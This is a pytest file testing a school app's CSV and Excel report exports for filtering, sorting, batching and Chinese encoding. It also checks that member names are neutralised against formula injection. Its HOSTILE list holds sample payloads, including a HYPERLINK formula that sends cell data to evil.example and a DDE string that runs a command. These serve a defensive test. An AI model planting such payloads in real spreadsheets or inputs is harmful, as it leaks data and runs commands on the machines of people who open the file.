"""Report exports: exactly as filtered, Chinese that Excel opens, and no formulas from names."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from school.archive import services as archive
from school.auth.models import User
from school.db import db
from school.orgs.models import Organisation
from school.spreadsheets import neutralise
from tests.conftest import login
from tests.factories import make_user

YEAR = 2025
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+1",
]  # names are stripped when accounts are made, so tab and CR are checked in test_neutralise


def _branch_id(app, name: str = "一支部") -> int:
    with app.app_context():
        return db.session.scalar(select(Organisation.id).where(Organisation.name == name))


def _study(username: str, hours: int) -> None:
    archive.append_offline(
        db.session.scalar(select(User).where(User.username == username)),
        title="集中学习",
        hours=Decimal(hours),
        completed_at=datetime(YEAR, 5, 1, 4, tzinfo=UTC),
        recorded_by=db.session.scalar(select(User).where(User.username == "admin")),
    )


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _xlsx_sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86", "'+86"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("张党员", "张党员"),
        ("a=b", "a=b"),
        ("", ""),
        (Decimal("-1.5"), Decimal("-1.5")),  # numbers stay numbers
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.fixture
def hostile(app, world):
    """Members of 一支部 whose names would run as formulas."""
    with app.app_context():
        branch = db.session.scalar(select(Organisation).where(Organisation.name == "一支部"))
        for i, name in enumerate(HOSTILE):
            make_user(f"hostile{i}", name, home_org=branch)
        db.session.commit()


@pytest.mark.parametrize("route", ["members.csv", "grid.csv"])
def test_csv_neutralises_formulas(app, hostile, client, route):
    login(client, "secretary")
    response = client.get(f"/reports/{_branch_id(app)}/{route}")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    names = [row[0] for row in _csv_rows(response.data)[1:]]
    for name in HOSTILE:
        assert "'" + name in names
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


@pytest.mark.parametrize("route", ["members.xlsx", "grid.xlsx"])
def test_xlsx_stores_hostile_names_as_quoted_text(app, hostile, client, route):
    login(client, "secretary")
    response = client.get(f"/reports/{_branch_id(app)}/{route}")
    assert response.status_code == 200
    sheet = _xlsx_sheet(response.data)
    cells = {c.value: c for c in sheet["A"][1:]}
    for name in HOSTILE:
        cell = cells["'" + name]
        assert cell.data_type == "s"
        assert cell.value.startswith("'")
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_exports_follow_the_filters_and_sort_across_all_pages(app, world, client):
    with app.app_context():
        branch = db.session.scalar(select(Organisation).where(Organisation.name == "一支部"))
        for i in range(70):
            make_user(f"bulk{i:02d}", f"批量{i:02d}", home_org=branch)
        db.session.flush()
        _study("bulk05", 10)
        _study("bulk06", 20)
        _study("member", 40)
        db.session.commit()
    branch_id = _branch_id(app)
    login(client, "secretary")
    # Everyone, all pages (73 > 50), in the page's order.
    rows = _csv_rows(client.get(f"/reports/{branch_id}/members.csv?year={YEAR}").data)
    assert rows[0][:5] == ["姓名", "党员编号", "流出地党组织", "流入地党组织", "联系电话"]
    bulk = [r[0] for r in rows[1:] if r[0].startswith("批量")]
    assert len(rows) == 74 and bulk == sorted(bulk) and len(bulk) == 70
    # Behind, most 学时 first: exactly what the filtered page shows.
    query = f"?year={YEAR}&status=behind&sort=hours&dir=desc"
    rows = _csv_rows(client.get(f"/reports/{branch_id}/members.csv{query}").data)
    assert [r[0] for r in rows[1:]] == ["批量06", "批量05"]
    assert rows[1][7] == "20" and rows[1][8] == "进度落后"
    sheet = _xlsx_sheet(client.get(f"/reports/{branch_id}/members.xlsx{query}").data)
    # Title row, header, the members, the totals row.
    values = list(sheet.iter_rows(values_only=True))
    assert [v[0] for v in values[2:-1]] == ["批量06", "批量05"]
    assert values[2][7] == 20  # 学时 are numbers in the workbook
    # Met: the member with 40 学时 only.
    grid = _csv_rows(client.get(f"/reports/{branch_id}/grid.csv?year={YEAR}&status=met").data)
    assert [r[0] for r in grid[1:]] == ["张党员"]
    assert grid[0][-1] == "课程 rules" and grid[1][-1] == "未开始"


def test_grid_export_has_a_column_per_published_course(app, world, client):
    login(client, "admin")
    sheet = _xlsx_sheet(client.get(f"/reports/{_branch_id(app, '市委')}/grid.xlsx").data)
    header = list(sheet.iter_rows(values_only=True))[1]
    assert "课程 rules" in header and "课程 draft-course" not in header


def test_export_with_course_filter_adds_that_course(app, world, client):
    with app.app_context():
        from school.courses.models import Course

        course_id = db.session.scalar(select(Course.id).where(Course.slug == "rules"))
    login(client, "secretary")
    rows = _csv_rows(client.get(f"/reports/{_branch_id(app)}/members.csv?course={course_id}").data)
    assert rows[0][-2:] == ["课程 rules（进度）", "课程 rules（完成日期）"]
    assert all(r[-2] == "未开始" for r in rows[1:])


def test_exports_stream_in_batches_without_losing_or_reordering_rows(app, world, monkeypatch):
    from school.reports import exports, queries

    monkeypatch.setattr(queries, "EXPORT_BATCH", 7)
    with app.app_context():
        branch = db.session.scalar(select(Organisation).where(Organisation.name == "一支部"))
        for i in range(30):
            make_user(f"bulk{i:02d}", f"批量{i:02d}", home_org=branch)
        db.session.commit()
        filters = queries.Filters(year=YEAR, sort="name", desc=True)
        table = exports.grid_table(*queries.iter_grid_rows(branch, filters), lambda row: "")
        rows = list(table.rows)
        page = queries.grid(branch, filters)
    assert [row[0] for row in rows] == [row.name for row in page.rows]
    assert len(rows) == 33
    assert table.totals()[0] == "合计 33 人"
